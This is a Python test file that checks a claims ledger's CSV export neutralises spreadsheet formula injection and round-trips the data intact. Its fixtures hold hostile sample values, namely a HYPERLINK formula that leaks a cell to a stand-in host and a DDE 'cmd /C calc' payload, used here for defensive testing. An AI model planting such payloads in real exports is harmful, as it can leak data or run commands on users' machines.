"""CSV export writes formula-like text as text (OWASP), keeps numbers numeric, and reads back."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.conftest import GAZA_YAML, ClaimFactory, gaza_spec
from truce.domain.claims import Claim, Source
from truce.io import export
from truce.io.claims_file import load_claims_file
from truce.io.csv_cells import neutralise, restore
from truce.io.export import export_claims
from truce.storage import Ledger

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the source")'


@pytest.fixture
def hostile(make_claim: ClaimFactory) -> list[Claim]:
    return [
        make_claim(
            0,
            quote=HOSTILE,
            notes="+972 call logged",
            location="@SUM(1+1)*cmd|' /C calc'!A0",
            sources=(Source(outlet=HOSTILE, speaker="-2+3"),),
            quantity=13,
        ),
        make_claim(1, quote="'already quoted", notes="\tlead tab", location="-Gaza"),
    ]


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_formula_cells_start_with_a_quote_and_numbers_stay_numbers(
    tmp_path: Path, hostile: list[Claim]
) -> None:
    out = tmp_path / "claims.csv"
    export_claims(hostile, "csv", out)
    first, second = rows(out)
    assert first["quote"] == "'" + HOSTILE
    assert first["notes"] == "'+972 call logged"
    assert first["location"].startswith("'@SUM")
    assert first["quantity"] == "13"
    assert second["quote"] == "''already quoted"
    assert second["notes"] == "'\tlead tab" and second["location"] == "'-Gaza"
    # No cell of the file starts a formula.
    for row in (first, second):
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_a_neutralised_export_imports_back_to_the_same_claims(
    tmp_path: Path, hostile: list[Claim]
) -> None:
    out = tmp_path / "claims.csv"
    with Ledger.init(str(tmp_path / "a.db")) as ledger:
        ledger.add_agreement(gaza_spec(), GAZA_YAML, None)
        ledger.append_claims(hostile, None)
        export_claims(ledger.claims("gaza-2023-11"), "csv", out)
        original = ledger.claims("gaza-2023-11")
    with Ledger.init(str(tmp_path / "b.db")) as fresh:
        fresh.add_agreement(gaza_spec(), GAZA_YAML, None)
        batch = load_claims_file(out, fresh)
        assert batch.errors == []
        assert [c.id for c in batch.claims] == [c.id for c in original]
        assert batch.claims[0].quote == HOSTILE


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "'", "''=", "plain", ""])
def test_restore_undoes_neutralise(text: str) -> None:
    assert restore(neutralise(text)) == text


@given(st.lists(st.one_of(st.none(), st.text(max_size=6), st.integers(), st.floats()), max_size=8))
def test_a_rows_cells_are_each_cell_written_alone(values: list[object]) -> None:
    """The CSV export writes a row's cells in one pass (`export._cells`): the same as `_cell`,
    the rule a field export and `truce import` rely on, one cell at a time."""
    row = {str(n): value for n, value in enumerate(values)}
    assert export._cells(row, tuple(row)) == [export._cell(value) for value in values]
